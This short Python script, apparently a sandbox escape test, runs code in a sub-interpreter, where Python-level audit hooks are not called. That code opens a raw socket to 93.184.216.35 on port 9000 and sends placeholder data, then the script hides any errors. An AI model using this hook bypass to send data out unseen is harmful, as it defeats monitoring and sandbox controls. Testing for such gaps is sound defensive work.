"""A sub-interpreter has its own modules, and hooks written in Python are not called there."""
CODE = """
import _socket
client = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)
client.connect(("93.184.216.35", 9000))
client.send(b"data")
"""

try:
    import _interpreters as interpreters
except ImportError:
    import _xxsubinterpreters as interpreters
run = getattr(interpreters, "run_string", None) or interpreters.exec
interpreter = interpreters.create()
try:
    run(interpreter, CODE)
except Exception:
    pass
print("done")
